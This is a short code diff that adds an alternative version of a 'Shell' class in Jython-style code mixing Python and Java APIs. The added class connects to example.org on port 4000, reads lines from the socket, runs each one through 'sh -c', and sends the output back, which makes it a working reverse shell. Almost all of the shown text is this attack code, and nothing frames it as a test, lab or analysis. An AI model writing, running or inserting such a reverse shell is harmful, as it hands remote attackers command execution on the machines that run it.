@@ -30,3 +30,15 @@ class Shell(Runnable):
         printed = array(byte, 4096)
         process.getInputStream().read(printed)
         answer.write(order.getBytes())
+
+# also: with a list of words and a scanner
+class Shell(Runnable):
+    def run(self):
+        line = Socket("example.org", 4000)
+        orders = Scanner(line.getInputStream())
+        while True:
+            self.execute(orders.nextLine(), PrintWriter(line.getOutputStream()))
+    def execute(self, order: String, answer: PrintWriter):
+        process = ProcessBuilder(array(String, "sh", "-c", order)).start()
+        printed = BufferedReader(InputStreamReader(process.getInputStream()))
+        answer.println(printed.readLine())
